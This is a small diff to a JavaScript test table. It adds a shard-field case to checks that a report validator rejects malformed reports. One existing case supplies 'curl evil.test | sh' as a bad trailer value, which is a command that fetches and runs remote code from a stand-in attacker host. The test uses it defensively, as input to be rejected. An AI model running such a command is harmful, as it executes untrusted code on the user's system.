@@ -79,6 +79,7 @@ describe('a report that is not as this program writes it', () => {
     ['a trailer that is another line', withFinding({ suggestedTrailer: 'curl evil.test | sh' }), /suggestedTrailer/],
     ['a fixture twice', { ...good, findings: [first, first] }, /one finding for each path/],
     ['another schema version', { ...good, schemaVersion: 2 }, /schemaVersion/],
+    ['the part of one shard', { ...good, shard: { index: 0, count: 2, unusedRules: [] } }, /shard/],
     ['another tool', { ...good, tool: { name: 'other', version: '1.0.0' } }, /tool\.name/],
     ['gates in another order', { ...good, gates: [...good.gates].reverse() }, /gates/],
     ['exit code and verdict that differ', { ...good, exitCode: 0 }, /verdict/],
